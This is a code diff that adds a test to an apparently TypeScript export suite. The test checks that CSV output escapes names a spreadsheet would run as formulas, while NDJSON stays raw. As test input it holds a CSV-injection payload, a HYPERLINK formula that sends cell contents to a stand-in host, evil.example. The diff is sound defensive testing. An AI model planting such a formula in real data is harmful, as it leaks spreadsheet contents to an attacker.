@@ -119,6 +119,23 @@ for (const dialect of DIALECTS) {
       ]);
     });
 
+    // Security finding: names starting with = + - @ were exported raw, so a consumer could name itself
+    // a formula that runs when an operator opens the CSV in a spreadsheet (OWASP "CSV Injection").
+    it("prefixes text that a spreadsheet would run as a formula with ' in CSV, and leaves NDJSON raw", async () => {
+      const name = '=HYPERLINK("https://evil.example/?"&A1,"open")';
+      const consumer = await h.json('POST', '/v1/consumers', { name }, 201);
+      const key = await h.json('POST', '/v1/keys', { consumerId: consumer.id, name: '@SUM(1+1)' }, 201);
+      const at = start + 25 * DAY;
+      h.clock.set(at + MINUTE);
+      await verify(key.key);
+      const csv = parseCsv((await exportOf(at, at + 2 * MINUTE, 'csv')).body);
+      expect(csv[1]?.[2]).toBe(`'${name}`);
+      expect(csv[1]?.[4]).toBe("'@SUM(1+1)");
+      expect(csv[1]?.[6]).toBe('1');
+      const ndjson = JSON.parse((await exportOf(at, at + 2 * MINUTE, 'ndjson')).body.trim());
+      expect(ndjson).toMatchObject({ consumerName: name, keyName: '@SUM(1+1)', count: 1 });
+    });
+
     it('streams more rows than one page holds, in order, none twice', async () => {
       const { keyId, consumerId } = await h.consumerWithKey();
       const base = start + 3 * DAY;
